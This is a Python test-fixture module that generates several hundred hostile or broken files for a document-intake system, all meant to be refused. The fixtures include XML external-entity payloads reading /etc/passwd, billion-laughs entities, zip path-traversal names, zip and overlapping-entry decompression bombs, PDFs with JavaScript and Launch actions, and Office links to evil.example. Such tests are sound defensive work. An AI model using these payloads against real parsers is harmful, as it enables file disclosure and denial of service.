"""Hostile and broken files, a few hundred of them, made on the spot: each must end as a refused document."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

from containers import aes_zipped, mail, open_document_sheet, pdf, protected, seven_zipped, zipped
from documents import workbook
from hostile_compound import good_compounds, hostile_old_words

NAME = "ZZHOSTILE"
ROWS = [
    ["Case No", "Victim name", "Perpetrator name"],
    *([f"{n}/2026", f"{NAME}, Jane {n}", "ZZOTHER, Bob"] for n in range(1, 9)),
]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MIB = 1 << 20


def everything() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, the name that it comes with, its bytes)"""
    yield from truncated()
    yield from wrongly_named()
    yield from hostile_documents()
    yield from hostile_workbooks()
    yield from active_content()
    yield from hostile_archives()
    yield from hostile_pdfs()
    yield from hostile_mails()
    yield from hostile_texts()
    yield from hostile_old_words(ROWS)


def good_files() -> dict[str, bytes]:
    """One good file of each kind, by the ending that it should have."""
    sheet = workbook({"MARAC case list": ROWS})
    return {
        "xlsx": sheet,
        "docx": word(_table(ROWS)),
        **good_compounds(ROWS),
        "ods": open_document_sheet(ROWS),
        "pdf": pdf(["Testshire MARAC case list"], ROWS),
        "7z": seven_zipped({"list.xlsx": sheet}),
        "zip": zipped({"list.xlsx": sheet}),
        "msoffice": protected(sheet, "secret"),
        "eml": mail("Case list", {"list.xlsx": sheet}),
    }


def truncated() -> Iterator[tuple[str, str, bytes]]:
    for ending, data in good_files().items():
        for part in (2, 5, 10, 25, 40, 55, 70, 80, 90, 97):
            size = max(8, len(data) * part // 100)
            if ending == "eml" and part < 10:
                continue  # so short that only a harmless greeting is left
            yield f"{ending} cut at {part} %", f"list.{'xlsx' if ending == 'msoffice' else ending}", data[:size]
        noise = random.Random(ending).randbytes(len(data))
        yield f"{ending}: first bytes, then noise", f"list.{ending}", data[:64] + noise


def wrongly_named() -> Iterator[tuple[str, str, bytes]]:
    files = good_files()
    for ending, data in files.items():
        for other in ("xlsx", "docx", "pdf", "csv", "zip", "msg", "7z"):
            if other == ending or (ending == "msoffice" and other in ("xlsx", "docx")):
                continue
            yield f"{ending} called {other}", f"list.{other}", data
    for mark in (
        b"MZ\x90\x00",
        b"\x7fELF\x02\x01",
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
        b"Rar!\x1a\x07",
        b"\x1f\x8b\x08",
        b"{\\rtf1",
    ):
        yield f"{mark[:4]!r} called xlsx", "list.xlsx", mark + bytes(range(256)) * 8


# --- Word


def word(body: str, parts: Mapping[str, bytes] | None = None, prologue: str = "") -> bytes:
    document = f'<?xml version="1.0"?>{prologue}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document.encode(), **(parts or {})})


def _table(rows: list[list[str]]) -> str:
    made = "".join("<w:tr>" + "".join(f"<w:tc>{_p(cell)}</w:tc>" for cell in row) + "</w:tr>" for row in rows)
    return f"{_p('Testshire MARAC case list')}<w:tbl>{made}</w:tbl>"


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


LAUGHS = "<!DOCTYPE z [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
) + "]>"  # fmt: skip
OUTSIDE = "<!DOCTYPE z [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"


def hostile_documents() -> Iterator[tuple[str, str, bytes]]:
    yield "docx: billion laughs", "a.docx", word(_p("&j;"), prologue=LAUGHS)
    yield "docx: outside entity", "a.docx", word(_p("S&x;E"), prologue=OUTSIDE)
    yield "docx: document type alone", "a.docx", word(_table(ROWS), prologue="<!DOCTYPE w>")
    hidden = f'<?xml version="1.0" encoding="utf-16"?>{OUTSIDE}<w:document xmlns:w="{W}"><w:body/></w:document>'
    yield (
        "docx: document type in UTF-16",
        "a.docx",
        zipped({"[Content_Types].xml": b"", "word/document.xml": hidden.encode("utf-16")}),
    )
    far = f"<?xml version='1.0'?><!--{' ' * 9000}-->{OUTSIDE}"
    far += f"<w:document xmlns:w='{W}'><w:body>{_p('&x;')}</w:body></w:document>"
    yield (
        "docx: document type far from the start",
        "a.docx",
        zipped({"[Content_Types].xml": b"", "word/document.xml": far.encode()}),
    )
    yield (
        "docx: document type in a header",
        "a.docx",
        word(_table(ROWS), {"word/header1.xml": f"{OUTSIDE}<w:hdr/>".encode()}),
    )
    yield "docx: unknown entity", "a.docx", word(_p("&nobody;"))
    yield "docx: deep", "a.docx", word("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)
    yield "docx: deep tables", "a.docx", word("<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000)
    yield "docx: three million paragraphs", "a.docx", word("<w:p/>" * 3_000_000)
    yield "docx: one text of 200 MB", "a.docx", word(_p("A" * (200 * MIB)))
    yield "docx: one text of 20 MB", "a.docx", word(_p("A" * (20 * MIB)))
    yield (
        "docx: no body",
        "a.docx",
        zipped({"word/document.xml": f"<w:document xmlns:w='{W}'/>".encode(), "[Content_Types].xml": b""}),
    )
    yield "docx: not XML", "a.docx", zipped({"word/document.xml": b"hello", "[Content_Types].xml": b""})
    yield "docx: empty", "a.docx", zipped({"word/document.xml": b"", "[Content_Types].xml": b""})
    yield "docx: bad bytes", "a.docx", zipped({"word/document.xml": b"<a>\xff\xfe\x00</a>", "[Content_Types].xml": b""})


# --- workbooks


def sheet_xml(rows: str, parts: Mapping[str, bytes] | None = None, strings: str = "") -> bytes:
    """A workbook whose one sheet has these rows as raw XML."""
    source = zipfile.ZipFile(io.BytesIO(workbook({"MARAC case list": ROWS})))
    members = {name: source.read(name) for name in source.namelist()}
    members["xl/worksheets/sheet1.xml"] = f'<worksheet xmlns="{S}"><sheetData>{rows}</sheetData></worksheet>'.encode()
    if strings:
        members["xl/sharedStrings.xml"] = strings.encode()
    return zipped({**members, **(parts or {})})


def hostile_workbooks() -> Iterator[tuple[str, str, bytes]]:
    def cell(ref: str, text: str = "x") -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    yield "xlsx: a cell at the far corner", "a.xlsx", sheet_xml(f'<row r="1048576">{cell("XFD1048576")}</row>')
    yield "xlsx: a cell in a far row", "a.xlsx", sheet_xml(f'<row r="900000">{cell("A900000")}</row>')
    yield "xlsx: a cell in a far column", "a.xlsx", sheet_xml(f'<row r="1">{cell("ZZZ1")}</row>')
    many = "".join(f'<row r="{n}">{cell(f"A{n}")}</row>' for n in range(1, 120_000))
    yield "xlsx: many rows", "a.xlsx", sheet_xml(many)
    yield "xlsx: billion laughs", "a.xlsx", sheet_xml("", strings=f'{LAUGHS}<sst xmlns="{S}"><si><t>&j;</t></si></sst>')
    yield (
        "xlsx: outside entity",
        "a.xlsx",
        sheet_xml("", strings=f'{OUTSIDE}<sst xmlns="{S}"><si><t>&x;</t></si></sst>'),
    )
    yield (
        "xlsx: document type in the sheet",
        "a.xlsx",
        sheet_xml("", {"xl/worksheets/sheet1.xml": OUTSIDE.encode() + b"<worksheet/>"}),
    )
    yield "xlsx: one text of 150 MB", "a.xlsx", sheet_xml(f'<row r="1">{cell("A1", "A" * (150 * MIB))}</row>')
    yield (
        "xlsx: blown up by a factor of a thousand",
        "a.xlsx",
        sheet_xml("", {"xl/media/zero.bin": bytes(90 * MIB), "xl/drawings/drawing1.xml": bytes(60 * MIB)}),
    )
    yield (
        "xlsx: the sheet is missing",
        "a.xlsx",
        zipped({"xl/workbook.xml": b"<workbook/>", "[Content_Types].xml": b""}),
    )
    yield "xlsx: the workbook is not XML", "a.xlsx", zipped({"xl/workbook.xml": b"hello", "[Content_Types].xml": b""})
    yield (
        "ods: billion laughs",
        "a.ods",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": f"{LAUGHS}<a>&j;</a>".encode(),
            }
        ),
    )
    yield (
        "ods: outside entity",
        "a.ods",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": f"{OUTSIDE}<a>&x;</a>".encode(),
            }
        ),
    )
    yield "ods: no content", "a.ods", zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})


def active_content() -> Iterator[tuple[str, str, bytes]]:
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = f'<Relationships><Relationship Id="r" Type="{kinds}/%s" Target="http://evil.example/x" '
    rels += 'TargetMode="External"/></Relationships>'
    for part in (
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/externalLinks/a.xml",
    ):
        yield f"docx with {part}", "a.docx", word(_table(ROWS), {part: b"\xd0\xcf\x11\xe0"})
    for part in (
        "xl/vbaProject.bin",
        "xl/embeddings/oleObject1.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/activeX/activeX1.bin",
        "xl/ddeLink1.xml",
    ):
        yield f"xlsx with {part}", "a.xlsx", sheet_xml("", {part: b"\xd0\xcf\x11\xe0"})
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument", "package"):
        yield (
            f"docx linked as {kind}",
            "a.docx",
            word(_table(ROWS), {"word/_rels/document.xml.rels": (rels % kind).encode()}),
        )
    yield (
        "xlsx linked outside",
        "a.xlsx",
        sheet_xml("", {"xl/_rels/workbook.xml.rels": (rels % "externalLink").encode()}),
    )


# --- archives


def hostile_archives() -> Iterator[tuple[str, str, bytes]]:
    sheet = workbook({"MARAC case list": ROWS})
    for name in ("../evil.csv", "..\\evil.csv", "/etc/evil.csv", "C:\\evil.csv", "a/../../b.csv"):
        yield f"zip: {name}", "a.zip", zipped({name: b"case,role,surname\n1,Victim,ZZ\n"})
    yield "zip: nothing in it", "a.zip", zipped({})
    yield "zip: only folders", "a.zip", zipped({"folder/": b""})
    yield "zip: too many members", "a.zip", zipped({f"{n}.csv": b"x" for n in range(2_500)})
    yield "zip: too many documents", "a.zip", zipped({f"{n}.csv": b"case,role\n" for n in range(300)})
    yield "zip in zip", "a.zip", zipped({"b.zip": zipped({"c.xlsx": sheet})})
    yield "zip in 7z", "a.7z", seven_zipped({"b.zip": zipped({"c.xlsx": sheet})})
    yield "7z in zip", "a.zip", zipped({"b.7z": seven_zipped({"c.xlsx": sheet})})
    yield "zip of zeros", "a.zip", zipped({"zero.csv": bytes(120 * MIB)})
    yield "zip of nearly as many zeros", "a.zip", zipped({"zero.csv": bytes(90 * MIB)})
    yield "zip: the same name twice", "a.zip", _same_name_twice()
    yield "zip: sizes that lie", "a.zip", _lying_sizes(b"case,role,surname\n" + b"A" * (64 * MIB))
    yield "zip: members that overlap", "a.zip", _overlapping()
    yield "zip: a password nobody has", "a.zip", aes_zipped({"list.xlsx": sheet}, "nobody has it")
    yield "7z: a password nobody has", "a.7z", seven_zipped({"list.xlsx": sheet}, "nobody has it")
    yield "xlsx: a password nobody has", "a.xlsx", protected(sheet, "nobody has it")
    yield "7z of zeros", "a.7z", seven_zipped({"zero.csv": bytes(120 * MIB)})
    yield (
        "7z: ../evil",
        "a.7z",
        seven_zipped({"../evil.csv": b"case,role\n"}) if _writes_any_name() else b"7z\xbc\xaf\x27\x1c\x00\x04",
    )
    yield "zip: unknown compression", "a.zip", _with_method(sheet, 95)


def _writes_any_name() -> bool:
    try:
        seven_zipped({"../evil.csv": b"x"})
    except Exception:  # noqa: BLE001 - the library refuses to write such a name
        return False
    return True


def _same_name_twice() -> bytes:
    data = zipped({"list-a.csv": b"case,role\n", "list-b.csv": b"case,role\n"})
    return data.replace(b"list-b.csv", b"LIST-A.csv")


def _lying_sizes(content: bytes) -> bytes:
    """A directory that promises ten bytes for what inflates to many."""
    data = bytearray(zipped({"list.csv": content}))
    real = struct.pack("<I", len(content))
    at = data.find(real)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", 10)
        at = data.find(real)
    return bytes(data)


def _overlapping() -> bytes:
    """Many directory entries that all point at one compressed kernel."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(4 * MIB)) + kernel.flush()
    size, crc = 4 * MIB, zlib.crc32(bytes(4 * MIB))
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), size, 5, 0) + b"a.csv" + packed
    entries = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(packed), size, 8, 0, 0, 0, 0, 0, 0)
        + b"%04d.csv" % number
        for number in range(100)
    )
    return local + entries + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 100, 100, len(entries), len(local), 0)


def _with_method(data: bytes, method: int) -> bytes:
    made = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = made.find(mark)
        while at >= 0:
            made[at + offset : at + offset + 2] = struct.pack("<H", method)
            at = made.find(mark, at + 4)
    return bytes(made)


# --- PDF


def hostile_pdfs() -> Iterator[tuple[str, str, bytes]]:
    good = pdf(["Testshire MARAC case list"], ROWS)
    yield "pdf: a picture", "a.pdf", pdf(["x"], ROWS, with_text=False)
    for word_ in (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile"):
        yield (
            f"pdf with {word_.decode()}",
            "a.pdf",
            good.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S %b >>" % word_),
        )
    yield "pdf: five million operators", "a.pdf", _pdf_stream(b"q Q " * 5_000_000)
    yield "pdf: 300 MB of zeros", "a.pdf", _pdf_stream(b"\x00" * (300 * MIB))
    yield "pdf: pages in a loop", "a.pdf", good.replace(b"/Kids [3 0 R", b"/Kids [2 0 R")
    yield "pdf: no pages", "a.pdf", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    yield "pdf: nothing but its name", "a.pdf", b"%PDF-1.4\n"
    yield "pdf: protected by nobody's password", "a.pdf", good.replace(b"trailer <<", b"trailer << /Encrypt 99 0 R")


def _pdf_stream(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    good = pdf(["x"], [])
    start = good.find(b"<< /Length")
    end = good.find(b"endstream", start)
    return good[:start] + b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\n" + good[end:]


# --- mails and texts


def hostile_mails() -> Iterator[tuple[str, str, bytes]]:
    head = b"From: a@police.example\r\nSubject: papers\r\nMIME-Version: 1.0\r\n"
    yield "eml: nothing in it", "a.eml", head + b"\r\n"
    nested = head
    for depth in range(300):
        nested += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (depth, depth)
    yield "eml: parts in parts in parts", "a.eml", nested + b"Content-Type: text/plain\r\n\r\nhello"
    parts = b"".join(b"--b\r\nContent-Type: application/x-y\r\n\r\nx\r\n" for _ in range(1_000))
    yield (
        "eml: a thousand parts",
        "a.eml",
        head + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + parts + b"--b--",
    )
    yield (
        "eml: a boundary that never comes",
        "a.eml",
        head + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\nno parts here',
    )
    yield "eml: only a picture", "a.eml", mail("papers", {"a.png": b"\x89PNG\r\n\x1a\n" + bytes(90)}, plain="")
    yield "eml: only a program", "a.eml", mail("papers", {"list.xlsx": b"MZ" + bytes(90)}, plain="")
    yield (
        "eml: only an outsized archive",
        "a.eml",
        mail("papers", {"a.zip": zipped({"z.csv": bytes(90 * MIB)})}, plain=""),
    )
    yield (
        "eml in eml in eml",
        "a.eml",
        mail("a", {"b.eml": mail("b", {"c.eml": mail("c", {"d.csv": b"x"})}, plain="")}, plain=""),
    )


def hostile_texts() -> Iterator[tuple[str, str, bytes]]:
    yield "nothing", "a.csv", b""
    yield "white space", "a.csv", b" \r\n\t" * 50
    yield "zeros", "a.csv", bytes(10_000)
    yield "every byte", "a.csv", bytes(range(256)) * 50
    yield "noise", "a.csv", random.Random(1).randbytes(20_000)
    yield "a cell of 5 MB", "a.csv", b"case,role,surname\n1,Victim," + b"A" * (5 * MIB) + b"\n"
    yield "sixty thousand rows", "a.csv", b"case,role,surname\n" + b"1,Victim,ZZ\n" * 60_000
    yield "no columns in it", "a.csv", b"hello world\nthis is a letter\n"
    yield "UTF-16 cut in a letter", "a.csv", "\ufeffcase,role\n1,Victim\n".encode("utf-16-le") + b"\x41"
    yield "a page of a million elements", "a.html", b"<html><body>" + b"<b>" * 1_000_000
    yield "tables in tables", "a.html", b"<html>" + b"<table><tr><td>" * 100_000
